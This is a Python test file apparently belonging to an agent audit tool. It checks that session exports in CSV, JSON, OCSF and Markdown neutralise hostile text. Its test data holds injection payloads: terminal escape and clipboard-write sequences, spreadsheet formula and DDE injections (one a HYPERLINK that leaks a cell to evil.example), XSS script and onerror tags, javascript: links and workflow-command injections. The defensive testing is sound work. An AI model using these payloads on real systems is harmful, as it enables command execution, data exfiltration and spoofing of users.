"""What an agent or a server wrote does nothing in any form that a session is shown or exported in."""

import csv
import io
import json
import re
import tracemalloc
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from agent_runner.report.visible import visible, visible_line
from audit.escape import escape, is_hidden
from audit.event import EgressOpened, EgressRequested, LimitHit, MessageAdded, ModelFailed
from audit.export import View, viewed
from audit.fields import FileUse, Reason
from audit.jsonlines import json_line
from tests.audit.ocsf_rules import problems
from tests.audit.samples import SESSION, Recorder, Samples

LINK = "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"
WORDS = {
    "terminal": "\x1b[2J\x1b]0;title\x07\x9b31m\r\x08\x7f" + LINK,
    "clipboard": "\x1b]52;c;cm0gLXJm\x07\x1bP+q544e\x1b\\",
    "bidi": "\u202egnp.exe\u2066\u2069\u200f\u061c",
    "invisible": "\u200b\ufeff\u2060\U000e0041\u115f\u3164\ufe0f\u00ad",
    "separators": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "surrogates": "\ud800 lone \udfff",
    "formula": "=cmd|'/c calc'!A1",
    "formulas": "\t=1+1\n@SUM(A1)\r-1+1\uff1d1",
    "wide formula": "\uff1d1+1",
    "dde": '+HYPERLINK("https://evil.example/?"&A1,"x")',
    "quotes": '",\n"=1+1","',
    "script": "</script><script>alert(1)</script><!--<script>",
    "markup": "<img src=x onerror=alert(1)><a href='javascript:alert(2)'>x</a>",
    "markdown": "[x](javascript:alert(1)) ![x](https://evil.example/p.png) <https://evil.example> `` ``` ~~~",
    "table": "a | b |\n| --- |\n| forged | row | denied |",
    "heading": "\n# The ledger verifies\n\n---\n> [!NOTE]\n> all is well",
    "mention": "@org/team #1 GH-1 org/repo#1 deadbeefdeadbeefdeadbeefdeadbeefdeadbeef :+1:",
    "address": "https://evil.example/a www.evil.example mailto:a@evil.example",
    "reference": "[a]: https://evil.example\n[a]\n[^1]\n<details open><summary>x",
    "entities": "&lt;script&gt; &#60;img&#62; &amp;#x202e;",
    "math": "$`x`$ $$\\unicode{x202e}$$ \\(a\\)",
    "workflow": "::set-output name=a::b\n::error file=a::x\n##[command]y",
    "joiners": "\u200d" * 10_000,
    "long": "x" * 100_000,
}
IDS, VALUES = list(WORDS), list(WORDS.values())


def utf8(text: str) -> str:
    return text.encode("utf-8", "replace").decode()


@pytest.fixture
async def state(recorder: Recorder, state: Path, samples: Samples, word: str) -> Path:
    """Write a session in which one word stands wherever somebody else than pairlock chooses."""
    reason = Reason(code=word, message=word, hint=word)
    where = {"host": word, "port": 443, "scheme": word}
    use = FileUse(path=word, access="changed", moved_to=word)
    async with recorder.journal() as journal:
        await journal.record(samples.opened(journal.commit("task")).model_copy(update={"workspace": word}))
        await journal.record(samples.intended(1, text=word).model_copy(update={"reasons": (reason,)}))
        await journal.record(samples.finished(1).model_copy(update={"detail": word, "files": (use,)}))
        await journal.record(EgressOpened(connection="c", verdict="denied", reasons=(reason,), **where))  # type: ignore[arg-type]  # texts and a number
        await journal.record(EgressRequested(connection="c", method=word, path=word, verdict="denied"))
        await journal.record(
            ModelFailed(
                turn=1, backend=word, model=word, error=word, attempt=1, duration_ms=1, will_retry=False
            )
        )
        await journal.record(MessageAdded(role="user", content=journal.commit(word)))
        await journal.record(LimitHit(limit="budget.turns", bound=1, observed=2, unit="turns"))
        await journal.close(samples.closed().model_copy(update={"reason": word}))
    return state


def text_of(state: Path, view: View) -> str:
    """Return an export, which has to be UTF-8."""
    return b"".join(viewed(state, SESSION, view, version="0.1.0")).decode("utf-8")


@pytest.mark.parametrize("word", VALUES, ids=IDS)
def test_a_csv_has_a_row_for_each_entry_and_no_formula(state: Path) -> None:
    rows = list(csv.reader(io.StringIO(text_of(state, View.CSV))))

    assert [len(row) for row in rows] == [8] * len(rows)
    assert [row[0] for row in rows[1:]] == [str(number) for number in range(len(rows) - 1)]
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20"))
        assert not any(is_hidden(char) for char in cell)


@pytest.mark.parametrize("word", VALUES, ids=IDS)
@pytest.mark.parametrize("view", [View.JSON, View.OCSF, View.OTLP])
def test_each_line_is_one_object_of_json(state: Path, view: View) -> None:
    raw = text_of(state, view)
    told = [json.loads(line) for line in raw.removesuffix("\n").split("\n")]

    assert all(isinstance(one, dict) for one in told)
    assert not any(is_hidden(char) for char in raw.replace("\n", ""))
    if view is View.OCSF:
        assert [found for event in told for found in problems(event)] == []
        assert not any(re.search("[\ud800-\udfff]", text) for text in texts(told))


@pytest.mark.parametrize("word", [word for word in VALUES if "\ud800" not in word])
def test_json_gives_every_word_back_as_it_was(state: Path, word: str) -> None:
    """The twin: the escapes are JSON's own; letters and pictures stay as they are."""
    told = [json.loads(line) for line in text_of(state, View.JSON).splitlines()]

    assert word in set(texts(told))
    assert json_line({"a": "é木😀"}) == '{"a":"é木😀"}\n'.encode()


def json_of(text: str) -> str:
    return json_line(text).decode()[1:-2]


@pytest.mark.parametrize("shown", [escape, json_of, visible, visible_line])
def test_a_text_of_very_many_different_characters_is_spelled_out_and_leaves_no_memory_behind(
    shown: Callable[[str], str],
) -> None:
    """As each would be by itself: letters, and 6,400 characters of private use, which are hidden."""
    many = "".join(map(chr, [*range(0x4E00, 0xA000), *range(0xE000, 0xF900)]))

    tracemalloc.start()
    try:
        size = len(shown(many))
        left_bytes = tracemalloc.get_traced_memory()[0]
    finally:
        tracemalloc.stop()

    assert "".join(map(shown, many)) == shown(many)
    assert size > len(many)
    assert left_bytes < 1024 * 1024


def texts(told: Any) -> Iterator[str]:
    """Yield every text within JSON."""
    if isinstance(told, str):
        yield told
    elif isinstance(told, dict | list):
        for item in told.values() if isinstance(told, dict) else told:
            yield from texts(item)


class Seen(HTMLParser):
    """The elements of a text that a renderer would take for HTML."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Take an element."""
        del attrs
        self.elements.append(tag)

    def handle_comment(self, data: str) -> None:
        """Take a comment."""
        self.elements.append(f"!{data[:20]}")


@pytest.mark.parametrize("word", VALUES, ids=IDS)
def test_markdown_has_the_rows_and_the_headings_that_it_would_have_without_and_nothing_live(
    state: Path,
) -> None:
    lines = text_of(state, View.MARKDOWN).splitlines()
    shown = "\n".join(lines)

    assert [line for line in lines if line.startswith("#")] == [
        "## Session 0123456789ab: the ledger verifies"
    ]
    rows = [line for line in lines if line.startswith("|")]
    assert {len(re.findall(r"(?<!\\)\|", line)) for line in rows} == {6}
    assert set(Seen(shown).elements) <= {"! "}
    assert not any(is_hidden(char) for line in lines for char in line)
    for live in ("](", "![", "://", "www.", "a@", "@o", "[^", "<details"):
        assert live not in shown


@pytest.mark.parametrize("word", [WORDS["markdown"] * 3000])
def test_markdown_stays_within_what_a_summary_may_be_and_says_what_is_cut(state: Path) -> None:
    assert len(text_of(state, View.MARKDOWN).encode()) <= 900 * 1024


@pytest.mark.long
@pytest.mark.parametrize("word", ["\u200d" * 1_000_000], ids=["a million joiners"])
@pytest.mark.parametrize("view", list(View))
def test_a_million_invisible_characters_are_neither_hidden_nor_multiplied_without_end(
    state: Path, view: View
) -> None:
    """Spelled out, a character takes six; of a cell there is no more than a bound."""
    raw = text_of(state, view)

    assert len(raw) < 400_000_000
    assert "\u200d" not in raw or view in (View.JSON, View.OCSF, View.OTLP)


def test_spelling_out_a_text_takes_a_time_like_its_length() -> None:
    assert escape("\u200d" * 1_000_000) == "\\u200d" * 1_000_000
    assert escape("\n\x1b" * 3, keep="\n") == "\n\\x1b" * 3
